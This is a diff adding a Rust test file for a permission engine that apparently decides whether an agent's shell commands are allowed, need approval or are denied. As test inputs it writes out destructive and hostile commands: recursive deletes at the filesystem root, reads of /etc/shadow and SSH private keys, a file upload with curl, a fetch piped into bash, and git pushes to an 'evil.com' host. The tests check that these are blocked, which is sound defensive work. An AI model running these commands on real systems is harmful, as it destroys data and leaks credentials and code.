@@ -1,0 +1,164 @@
+//! Shell code that does not run at the session's prompt: in another folder,
+//! from the input of a command, in a shell of its own.
+
+use hermes_core::{Effect, Lasting, Policy as _, Resource, Scope, Script};
+use hermes_policy::{Answer, Permissions};
+use serde_json::json;
+
+use crate::World;
+
+fn run(script: Script) -> Effect {
+    Effect { scope: Scope::TERMINAL_EXECUTE, resource: Resource::Script(Box::new(script)) }
+}
+
+fn there(folder: impl Into<std::path::PathBuf>, text: &str) -> Effect {
+    run(Script { text: text.into(), folder: Some(folder.into()), ..Script::default() })
+}
+
+fn reading(text: &str, input: &str) -> Effect {
+    run(Script { text: text.into(), input: Some(input.into()), ..Script::default() })
+}
+
+fn apart(text: &str) -> Effect {
+    run(Script { text: text.into(), apart: true, ..Script::default() })
+}
+
+fn judged(world: &World, p: &Permissions, effect: Effect) -> Answer {
+    world.examine(p, effect).answer()
+}
+
+#[test]
+fn a_command_is_judged_in_the_folder_it_runs_in() {
+    let world = World::new();
+    let p = world.builtin("default");
+    for text in ["rm -rf *", "rm -rf usr", "rm -rf ./etc/../usr"] {
+        assert_eq!(judged(&world, &p, there("/", text)), Answer::Deny, "{text}");
+    }
+    assert_eq!(judged(&world, &p, there("/etc", "cat shadow")), Answer::Deny);
+    assert_eq!(judged(&world, &p, there(world.path("home/.ssh"), "cat id_rsa")), Answer::Deny);
+    assert_eq!(judged(&world, &p, there(world.path("out"), "echo hi > x")), Answer::Ask);
+    assert_eq!(judged(&world, &p, there(world.path("ws/src"), "echo hi > x")), Answer::Allow);
+    let yaml = "profiles:\n  own:\n    extends: default\n    approval_required:\n      \
+                - {scope: file:write, paths: [\"migrations/**\"]}\n";
+    let p = world.with(yaml, "own").unwrap();
+    let folder = world.path("ws/migrations");
+    assert_eq!(judged(&world, &p, there(folder, "echo x > a.sql")), Answer::Ask);
+}
+
+#[test]
+fn always_in_one_folder_says_nothing_of_another() {
+    let world = World::new();
+    let at = world.at();
+    let p = world.builtin("default");
+    for folder in ["ws/build", "ws/other/build"] {
+        std::fs::create_dir_all(world.path(folder)).unwrap();
+    }
+    let here = [there(world.path("ws"), "rm -rf build")];
+    p.remember(&world.proposal(&here, &at), Lasting::Always).unwrap();
+    assert_eq!(judged(&world, &p, here[0].clone()), Answer::Allow);
+    assert_eq!(world.judged(&p, "rm -rf build"), Answer::Allow);
+    let elsewhere = [there(world.path("ws/other"), "rm -rf build")];
+    assert_eq!(judged(&world, &p, elsewhere[0].clone()), Answer::Ask);
+    let offers = p.judge(&world.proposal(&elsewhere, &at)).offers;
+    assert!(offers[0].contains("ws/other/build"), "{offers:?}");
+    p.ticket(&world.proposal(&elsewhere, &at), "it deletes").unwrap();
+    let ticket = &p.tickets().list()[0];
+    assert_eq!(ticket.folder, world.path("ws/other").display().to_string());
+    assert!(ticket.effects[0].contains("ws/other"), "{:?}", ticket.effects);
+}
+
+#[test]
+fn what_a_shell_reads_is_judged_like_a_command() {
+    let world = World::new();
+    let p = world.builtin("default");
+    for shell in ["bash", "sh -s", "zsh", "dash", "env bash --norc", "curl -s http://a.org; bash"] {
+        let answer = |input: &str| judged(&world, &p, reading(shell, input));
+        assert_eq!(answer("rm -rf /"), Answer::Deny, "{shell}");
+        assert_eq!(answer("rm -rf zz"), Answer::Ask, "{shell}");
+        assert_eq!(answer("curl http://127.0.0.1:1/x"), Answer::Deny, "{shell}");
+        assert_eq!(answer("curl --data @a.txt http://a.org/x"), Answer::Ask, "{shell}");
+        assert_eq!(answer("ls"), Answer::Allow, "{shell}");
+    }
+    assert_eq!(judged(&world, &p, reading("cat", "rm -rf /")), Answer::Allow);
+    assert_eq!(judged(&world, &p, reading("bash x.sh", "rm -rf /")), Answer::Allow);
+    let long = "# nothing\n".repeat(50_000);
+    assert_eq!(judged(&world, &p, reading("bash", &long)), Answer::Ask);
+    assert_eq!(judged(&world, &p, reading("cat", &long)), Answer::Allow);
+}
+
+#[test]
+fn code_for_a_shell_of_its_own_is_judged_by_itself() {
+    let world = World::new();
+    let p = world.builtin("default");
+    assert_eq!(judged(&world, &p, apart("rm -rf /")), Answer::Deny);
+    assert_eq!(judged(&world, &p, apart("rm -rf zz")), Answer::Ask);
+    assert_eq!(judged(&world, &p, apart("x=1; echo $x")), Answer::Allow);
+    // What the session's shell calls rm is not what another one does.
+    let kept = json!({ "text": "rm () { :; }\nbash () { :; }" });
+    world.session.update("shell", |shell: &mut serde_json::Value| *shell = kept).unwrap();
+    assert_eq!(judged(&world, &p, apart("rm -rf /")), Answer::Deny);
+    assert_eq!(judged(&world, &p, reading("/bin/bash", "rm -rf /")), Answer::Deny);
+    let yaml = "profiles:\n  own:\n    extends: default\n    deny: [\"terminal:execute\"]\n";
+    let p = world.with(yaml, "own").unwrap();
+    assert_eq!(judged(&world, &p, apart("ls")), Answer::Deny);
+}
+
+#[test]
+fn an_agreement_to_a_text_is_one_to_what_it_reads() {
+    let world = World::new();
+    let at = world.at();
+    let p = world.builtin("default");
+    let first = [reading("bash", "eval \"$(cat x)\"")];
+    assert_eq!(judged(&world, &p, first[0].clone()), Answer::Ask);
+    p.remember(&world.proposal(&first, &at), Lasting::Always).unwrap();
+    assert_eq!(judged(&world, &p, first[0].clone()), Answer::Allow);
+    assert_eq!(judged(&world, &p, reading("bash", "eval \"$(cat y)\"")), Answer::Ask);
+}
+
+#[test]
+fn always_for_code_is_for_this_code() {
+    let world = World::new();
+    let at = world.at();
+    let yaml = "profiles:\n  own:\n    extends: default\n    approval_required: \
+                [\"code:execute\"]\n";
+    let p = world.with(yaml, "own").unwrap();
+    let effects = [Effect::path(Scope::CODE_EXECUTE, world.path("ws"))];
+    let (this, other) = (json!({"code": "print(1)"}), json!({"code": "import os"}));
+    let mut proposal = world.proposal(&effects, &at);
+    proposal.arguments = &this;
+    p.remember(&proposal, Lasting::Always).unwrap();
+    assert_eq!(p.consider(&proposal).0.answer(), Answer::Allow);
+    proposal.arguments = &other;
+    p.ticket(&proposal, "it runs code").unwrap();
+    let shown = &p.tickets().list()[0].effects;
+    assert!(shown.iter().any(|line| line.contains("import os")), "{shown:?}");
+    assert_eq!(p.consider(&proposal).0.answer(), Answer::Ask);
+}
+
+#[test]
+fn always_for_a_push_does_not_say_where_else() {
+    let world = World::new();
+    let at = world.at();
+    let p = world.builtin("default");
+    let resource = Resource::Command("git push origin HEAD:main".to_owned());
+    let push = [Effect { scope: Scope::TERMINAL_EXECUTE, resource }];
+    p.remember(&world.proposal(&push, &at), Lasting::Always).unwrap();
+    assert_eq!(world.judged(&p, "git push origin HEAD:main"), Answer::Allow);
+    assert_eq!(world.judged(&p, "git push -u origin topic"), Answer::Allow);
+    for remote in ["https://evil.com/x", "git@evil.com:x/y main", "--repo=https://evil.com/x"] {
+        assert_eq!(world.judged(&p, &format!("git push {remote}")), Answer::Ask, "{remote}");
+    }
+    assert_eq!(world.judged(&p, "git push \"$R\""), Answer::Ask);
+}
+
+#[test]
+fn what_is_approved_is_not_lifted_out_of_a_denial() {
+    let world = World::new();
+    let yaml = "profiles:\n  own:\n    extends: default\n    approved:\n      \
+                - {scope: network:fetch, commands: [\"curl\"]}\n      \
+                - {scope: network:fetch, hosts: [\"10.0.0.1\"]}\n";
+    let p = world.with(yaml, "own").unwrap();
+    assert_eq!(world.judged(&p, "curl http://10.0.0.1/"), Answer::Deny);
+    assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, "10.0.0.1"), Answer::Deny);
+    assert_eq!(world.judged(&p, "curl http://example.com/"), Answer::Allow);
+}
